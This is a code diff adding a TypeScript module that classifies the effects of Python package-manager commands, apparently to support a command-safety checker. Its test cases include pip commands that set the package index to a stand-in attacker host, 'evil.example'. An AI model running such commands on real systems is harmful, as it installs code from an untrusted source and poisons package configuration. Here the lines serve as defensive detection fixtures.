@@ -1,0 +1,159 @@
+import type { Call, CommandDescriptor, Family, Finding, FixedEffect, OptionTable, ProgramDescriptor } from './descriptor.ts';
+import { does, harmless, sharing } from './shapes.ts';
+
+const installs: FixedEffect = { kind: 'network', target: 'network:download', tags: ['package_scripts'] };
+const publishes: FixedEffect = { kind: 'network', target: 'network:upload', tags: ['shares', 'remote_write'] };
+const cache: FixedEffect = { kind: 'delete', target: 'cache:packages', tags: ['regenerable'] };
+const foreign: FixedEffect = { kind: 'configure', target: 'package:index', tags: ['weakens'] };
+
+const usual =
+  /^https:\/\/(?:(?:test\.)?pypi\.org|download\.pytorch\.org|pypi\.nvidia\.com|pypi\.tuna\.tsinghua\.edu\.cn|mirrors\.aliyun\.com)\/|^https?:\/\/(?:localhost|127\.0\.0\.1)/;
+
+const indexFindings = (call: Call): readonly Finding[] =>
+  ['-i', '--extra-index-url'].some(option => call.values(option).some(({ text }) => text === undefined || !usual.test(text)))
+    ? [foreign]
+    : [];
+
+const installOptions: OptionTable = {
+  '-r --requirement -c --constraint': 'read',
+  '-i --index-url --default-index': 'text',
+  '--extra-index-url --index --find-links': 'text',
+  '--trusted-host': { value: 'text', effects: [foreign] },
+  '-t --target --root --prefix -d --dest --src': { as: 'write', recursive: true },
+  '-e --editable --python --platform --implementation --abi --global-option --no-binary --only-binary --proxy --cache-dir --extra --group --upgrade-strategy --progress-bar --report':
+    'text',
+  '-f': 'text',
+  '-U -q -v -y --user --upgrade --pre --no-deps --break-system-packages --force-reinstall --yes --quiet': 'flag',
+};
+
+const install = (): CommandDescriptor => ({ options: installOptions, effects: [installs], inspect: indexFindings });
+
+const config = (): CommandDescriptor => ({
+  inspect: ({ operands }) => {
+    const words = operands.map(({ text }) => text ?? '?').join(' ');
+    const sets = /(?:^|\s)(?:set\s+)?([\w.-]+)\s+(\S+)$/.exec(words);
+    const target = `package_setting:${sets?.[1] ?? '*'}`;
+    if (sets === null || /^(?:get|list|debug)/.test(words)) return [];
+    if (/index-url|repositories|trusted-host|find-links/.test(words) && !usual.test(sets[2] ?? ''))
+      return [{ kind: 'configure', target, tags: ['poisons'] }];
+    return [{ kind: 'configure', target, tags: /http-basic|pypi-token|certificates/.test(words) ? ['weakens'] : [] }];
+  },
+});
+
+const pipCommands: Readonly<Record<string, () => CommandDescriptor>> = {
+  'install download wheel sync compile': install,
+  'uninstall remove': does({ kind: 'configure', target: 'package:environment' }),
+  config,
+  cache: () => ({ subcommands: { 'purge remove': does(cache), 'dir info list': () => ({}) } }),
+  ...harmless('list show freeze check search index inspect debug hash help tree'),
+};
+
+const pip = (): ProgramDescriptor => ({
+  summary: 'manages packages of Python',
+  options: { '--proxy --log --python --cert --cache-dir': 'text' },
+  subcommands: pipCommands,
+  match: {
+    'pip install -r requirements.txt': 'network #package_scripts; read /w/requirements.txt',
+    'pip install --index-url http://evil.example x': 'configure #weakens',
+    'pip config set global.index-url http://evil.example': 'configure #poisons',
+    'pip3 install --target /opt/x y': 'write /opt/x/**',
+  },
+  notMatch: { 'pip install -U pip': 'unknown; * #weakens; * #destructive', 'pip freeze': 'network' },
+});
+
+const runner = (): CommandDescriptor => ({
+  style: 'posix',
+  options: {
+    '--with --python -p --from --extra --group --env-file --package --directory --project --index-url --spec --pip-args -n --name --prefix --cwd':
+      'text',
+    '-m --module': 'command',
+  },
+  operands: { first: ['command'] },
+});
+
+const uv = (): ProgramDescriptor => ({
+  summary: 'manages packages and versions of Python',
+  options: { '--directory': 'chdir', '--project --cache-dir --config-file': 'text' },
+  subcommands: {
+    pip: () => ({ subcommands: pipCommands }),
+    run: runner,
+    tool: () => ({ subcommands: { run: runner, 'install upgrade': install, 'uninstall list dir update-shell': () => ({}) } }),
+    'add sync lock remove': install,
+    publish: does(publishes),
+    cache: () => ({ subcommands: { 'clean prune': does(cache), dir: () => ({}) } }),
+    venv: () => ({ options: { '-p --python --prompt': 'text' }, operands: { first: [{ as: 'write', recursive: true }] } }),
+    ...harmless('init build python export tree version self help'),
+  },
+  match: { 'uv run rm a': 'delete /w/a', 'uv publish': 'network #remote_write', 'uv run -m pytest': 'execute pytest' },
+  notMatch: { 'uv sync': 'unknown; * #remote_write', 'uv run pytest -x': 'unknown; delete' },
+});
+
+const project = (): ProgramDescriptor => ({
+  summary: 'manages a Python project',
+  options: { '-C --directory --project -P': 'text' },
+  subcommands: {
+    run: runner,
+    'install add update lock sync remove self': install,
+    publish: does(publishes),
+    config,
+    cache: () => ({ subcommands: { 'clear clean': does(cache), list: () => ({}) } }),
+    env: () => ({
+      subcommands: {
+        'remove prune': does({ kind: 'delete', target: 'environment:python', tags: ['regenerable'] }),
+        'use info list create show run': () => ({}),
+      },
+    }),
+    ...harmless('build check show search version init new shell export graph fmt test dep status'),
+  },
+  match: { 'poetry run rm a': 'delete /w/a', 'poetry publish --build': 'network #remote_write' },
+  notMatch: { 'poetry install': 'unknown; * #remote_write' },
+});
+
+const conda = (): ProgramDescriptor => ({
+  summary: 'manages environments',
+  subcommands: {
+    'install update create upgrade': () => ({
+      options: { '-n --name -c --channel -p --prefix': 'text', '-f --file': 'read', '-y': 'flag' },
+      effects: [installs],
+    }),
+    'remove uninstall': does({ kind: 'configure', target: 'package:environment' }),
+    env: () => ({
+      subcommands: {
+        remove: does({ kind: 'delete', target: 'environment:conda', tags: ['recoverable'] }),
+        'create update list export config': () => ({ effects: [installs] }),
+      },
+    }),
+    run: runner,
+    clean: does(cache),
+    ...harmless('list info search activate deactivate init config doctor notices compare'),
+  },
+  notMatch: { 'conda create -n x python=3.12': 'unknown; * #destructive', 'conda activate x': 'unknown' },
+});
+
+/** Package managers of Python. */
+export const pythonPackages: Family = {
+  pip,
+  uv,
+  uvx: () => ({ summary: 'runs a Python tool', ...runner() }),
+  pipx: () => ({
+    summary: 'installs and runs Python tools',
+    subcommands: {
+      run: runner,
+      'install inject upgrade upgrade-all reinstall': install,
+      'uninstall uninstall-all list environment ensurepath completions': () => ({}),
+    },
+    match: { 'pipx run rimraf src': 'delete' },
+  }),
+  ...sharing('poetry pdm pipenv hatch rye', project),
+  ...sharing('conda mamba micromamba', conda),
+  ...sharing('twine flit', () => ({
+    summary: 'publishes Python packages',
+    subcommands: { 'upload publish register': does(publishes), 'check build install': () => ({}) },
+    match: { 'twine upload dist/x': 'network #shares' },
+  })),
+  ...sharing('virtualenv venv', () => ({
+    summary: 'makes an environment',
+    options: { '-p --python --prompt': 'text' },
+    operands: { first: [{ as: 'write', recursive: true }] },
+  })),
+};
